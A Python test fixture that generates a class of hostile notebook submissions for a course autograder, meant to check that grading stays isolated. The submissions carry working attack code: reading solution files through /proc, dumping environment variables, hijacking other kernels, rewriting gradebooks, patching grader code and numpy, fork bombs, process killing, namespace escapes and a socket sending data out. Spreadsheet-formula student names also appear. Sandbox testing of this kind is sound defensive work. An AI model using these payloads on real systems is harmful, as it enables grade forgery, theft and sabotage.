"""A hostile class for the fixture assignment ``demo``: submissions that attack the grader
through files, processes and the network, built by code (nothing hostile is stored in git).

Every hostile submission answers both exercises *wrongly* and then attacks: any point it earns
is a forged point. Honest submissions (right answers, names chosen to trip the intake) are
spread through the class: every one of them must keep every point.

``build(root, paths)`` writes the class to ``root`` and returns ``{technique: what it tries}``;
``paths`` holds what an attacker who knows the course layout would aim at.
"""

from __future__ import annotations

import copy
import json
import os
from pathlib import Path

SQUARE = "def grad_square(x):\n    return 2 * x"
CUBE = "def grad_cube(x):\n    return 3 * x**2"
WRONG = "def grad_square(x):\n    return x\n\ndef grad_cube(x):\n    return -3 * x**2\n"
MARKER = "hostile-marker-7f3a"        # in the command line of every process an attack leaves behind
CANARY = "/tmp/matdiff-hostile-canary"

# a helper most attacks share: define the answers from a stolen notebook
STEAL = '''
import json, os, glob
def _steal(path):
    try:
        nb = json.load(open(path))
    except Exception:
        return False
    for c in nb.get("cells", []):
        src = "".join(c.get("source", ""))
        if "def grad_" in src:
            exec(src, globals())
    return True
'''

TECHNIQUES: dict[str, tuple[str, str]] = {
    # ---- reading what it must not see
    "read-solutions": ("open solutions/ by its path", "_steal({solutions}/'demo/demo.ipynb')"),
    "search-filesystem": ("walk / for notebooks and gradebooks", '''
for d, _, fs in os.walk("/"):
    if d.startswith(("/proc", "/sys", "/usr", "/dev")):
        continue
    for f in fs:
        if f.endswith(".ipynb") and "BEGIN SOLUTION" in open(os.path.join(d, f), errors="replace").read():
            _steal(os.path.join(d, f))
'''),
    "read-via-proc": ("reach the host through /proc/<pid>/root and cwd", '''
for pid in os.listdir("/proc"):
    for via in ("root", "cwd"):
        _steal(f"/proc/{{pid}}/{{via}}" + {solutions!r} + "/demo/demo.ipynb")
        for p in glob.glob(f"/proc/{{pid}}/{{via}}/**/demo.ipynb", recursive=True)[:50]:
            _steal(p)
'''),
    "read-other-submission": ("copy another learner's answers", "_steal({honest!r})"),
    "read-grader-environment": ("print the grader's environment and /proc/1/environ", '''
print(dict(os.environ))
for pid in os.listdir("/proc"):
    try:
        print(open(f"/proc/{{pid}}/environ").read())
    except Exception:
        pass
'''),
    "drive-other-kernels": ("find other kernels' connection files and run code in them", '''
from jupyter_client import BlockingKernelClient
files = glob.glob("/tmp/**/kernel*.json", recursive=True)
for pid in os.listdir("/proc"):
    try:
        files += [a for a in open(f"/proc/{{pid}}/cmdline").read().split("\\0") if a.endswith(".json")]
    except Exception:
        pass
for f in set(files):
    try:
        kc = BlockingKernelClient(connection_file=f); kc.load_connection_file(); kc.start_channels()
        kc.execute("grad_square = lambda x: x")       # sabotage whoever it reaches
    except Exception:
        pass
'''),
    # ---- writing where it must not write
    "write-gradebook": ("write scores into every gradebook.db it can find", '''
import sqlite3
for db in glob.glob("/tmp/**/gradebook.db", recursive=True) + [{course_db!r}]:
    try:
        con = sqlite3.connect(db)
        con.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
        con.execute("CREATE TRIGGER IF NOT EXISTS t AFTER INSERT ON grade BEGIN "
                    "UPDATE grade SET auto_score = 0; END")
        con.commit()
    except Exception:
        pass
'''),
    "write-output": ("rewrite grades.csv and another learner's feedback", '''
for f, text in (({out!r} + "/grades.csv", "student,assignment,score,max_score\\nwrite-output,demo,3,3\\n"),
                ({out!r} + "/feedback/honest-a/demo/demo.html", "0 points, sorry")):
    try:
        os.makedirs(os.path.dirname(f), exist_ok=True); open(f, "w").write(text)
    except Exception:
        pass
'''),
    "write-other-submission": ("overwrite another learner's notebook", '''
try:
    open({honest!r}, "w").write("{{}}")
except Exception:
    pass
'''),
    "write-repo": ("append to the grader's code and to matdiff", '''
for f in ({repo!r} + "/grader/autograde.py", {repo!r} + "/grader/autograde/__init__.py",
          {repo!r} + "/grader/preprocessors.py",
          {repo!r} + "/matdiff/__init__.py"):
    try:
        open(f, "a").write("\\nraise SystemExit('pwned')\\n")
    except Exception:
        pass
'''),
    "write-site-packages": ("append to numpy in the Python installation", '''
import numpy
try:
    open(numpy.__file__, "a").write("\\nallclose = lambda *a, **k: True\\n")
except Exception:
    pass
'''),
    "write-home-and-tmp": ("write the instructor's home and the host's /tmp", '''
for f in ({home!r} + "/.bashrc", {canary!r}, os.path.expanduser("~/.bashrc")):
    try:
        open(f, "a").write("echo pwned\\n")
    except Exception:
        pass
'''),
    "fill-the-disk": ("write files until the disk is full, in every writable place", '''
import sys
places = [".", "/tmp"] + [os.path.dirname(a) for a in sys.argv if a.endswith(".json")]
for place in places:
    for i in range(40):
        try:
            with open(os.path.join(place, f"fill{{i}}"), "wb") as fh:
                fh.write(b"x" * (32 << 20))
        except Exception:
            break
'''),
    "huge-file": ("write one 1 GB file", '''
try:
    with open("big", "wb") as fh:
        fh.write(b"x" * (1 << 30))
except Exception as e:
    print(type(e).__name__)
'''),
    # ---- processes
    "daemon": ("a double-forked daemon that rewrites grades after grading", '''
import subprocess, sys
code = ("import time, os\\n# {marker}\\ntime.sleep(40)\\n"
        "open({out!r} + '/grades.csv', 'w').write('student,assignment,score,max_score\\\\n')")
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", code])
    os._exit(0)
'''),
    "setsid-child": ("a child in a new session that outlives the kernel", '''
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import time\\n# {marker}\\ntime.sleep(60)"],
                 start_new_session=True)
'''),
    "kill-parent": ("kill its parent process", "import signal\nos.kill(os.getppid(), signal.SIGKILL)"),
    "kill-everyone": ("kill every process it can see, then kill(-1)", '''
import signal
for pid in os.listdir("/proc"):
    if pid.isdigit() and int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGKILL)
        except Exception:
            pass
os.kill(-1, signal.SIGKILL)
'''),
    "fork-bomb": ("every process forks forever", '''
import time
while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.5)
'''),
    "memory-hog": ("allocate and touch 3 GB", "x = bytearray(3 << 30)"),
    "memory-hog-children": ("six processes of 1 GB each (past the per-process limit)", '''
import time
for i in range(6):
    if os.fork() == 0:
        x = bytearray(1 << 30)
        time.sleep(30)
        os._exit(0)
time.sleep(30)
'''),
    "escape-namespaces": ("unshare, chroot, mount, a nested user namespace", '''
import subprocess
for cmd in (["unshare", "-U", "-r", "sh", "-c", "echo escaped > /tmp/e"],
            ["mount", "-t", "tmpfs", "x", "/usr"]):
    try:
        subprocess.run(cmd, timeout=5)
    except Exception:
        pass
try:
    os.chroot("/")
except Exception:
    pass
'''),
    # ---- output
    "print-1gb": ("print 1 GB", "print('x' * (1 << 30))"),
    "print-100mb": ("print 100 MB in one message", "print('x' * (100 << 20))"),
    # ---- network
    "network": ("connect to the internet and to a port on the grader's machine", '''
import socket
for addr in (("1.1.1.1", 53), ("127.0.0.1", {port}), ({host_ip!r}, {port})):
    try:
        socket.create_connection(addr, timeout=3).sendall(b"stolen")
    except Exception:
        pass
'''),
}

# techniques that are about the folder, not the code
LINKS = {
    "symlink-notebook": "demo.ipynb is a link to the solution notebook",
    "symlink-learner-folder": "the learner folder is a link to solutions/",
    "symlink-assignment-folder": "the assignment folder is a link to another learner's",
    "notebook-50mb": "a 50 MB notebook (right answers)",
}

# honest learners whose names trip naive intake and spreadsheets
HONEST = ["honest-a", ".dot-name", "with space", "ünïcødé", b"caf\xe9-latin1", "=1+1", "@SUM(A1)",
          "-2+3", "zz-honest"]


def demo(tmp: Path, repo: Path) -> tuple[Path, dict]:
    """The fixture assignment's solutions folder and its student version (released into tmp)."""
    from grader.release import generate

    solutions = repo / "tests" / "fixtures" / "course" / "solutions"
    generate(solutions, tmp / "release", ["demo"])
    return solutions, json.loads((tmp / "release" / "demo" / "demo.ipynb").read_text())


def _set(nb: dict, gid: str, source: str) -> None:
    for cell in nb["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == gid:
            cell["source"] = source
            return
    raise KeyError(gid)


def honest(student_nb: dict) -> dict:
    nb = copy.deepcopy(student_nb)
    _set(nb, "grad_square", SQUARE)
    _set(nb, "grad_cube", CUBE)
    return nb


def build(root: Path, student_nb: dict, paths: dict) -> dict[str, str]:
    """Write the class; returns {submission name: what it tries} for the hostile ones."""
    root = Path(root)
    names: dict[str, str] = {}
    for name in HONEST:
        folder = Path(os.fsdecode(os.fsencode(str(root)) + b"/" + (
            name if isinstance(name, bytes) else name.encode()))) / "demo"
        folder.mkdir(parents=True)
        (folder / "demo.ipynb").write_text(json.dumps(honest(student_nb)))
    for name, (what, code) in TECHNIQUES.items():
        nb = copy.deepcopy(student_nb)
        attack = STEAL + code.format(marker=MARKER, canary=CANARY, **paths)
        _set(nb, "grad_square", WRONG + attack)
        folder = root / name / "demo"
        folder.mkdir(parents=True)
        (folder / "demo.ipynb").write_text(json.dumps(nb))
        names[name] = what
    solution = Path(paths["solutions"]) / "demo" / "demo.ipynb"
    (root / "symlink-notebook" / "demo").mkdir(parents=True)
    (root / "symlink-notebook" / "demo" / "demo.ipynb").symlink_to(solution)
    (root / "symlink-learner-folder").symlink_to(Path(paths["solutions"]), target_is_directory=True)
    (root / "symlink-assignment-folder").mkdir()
    (root / "symlink-assignment-folder" / "demo").symlink_to(Path(paths["honest"]).parent,
                                                            target_is_directory=True)
    big = honest(student_nb)
    big["cells"].append({"cell_type": "markdown", "metadata": {}, "id": "big",
                         "source": "x" * (50 << 20)})
    (root / "notebook-50mb" / "demo").mkdir(parents=True)
    (root / "notebook-50mb" / "demo" / "demo.ipynb").write_text(json.dumps(big))
    names.update(LINKS)
    return names
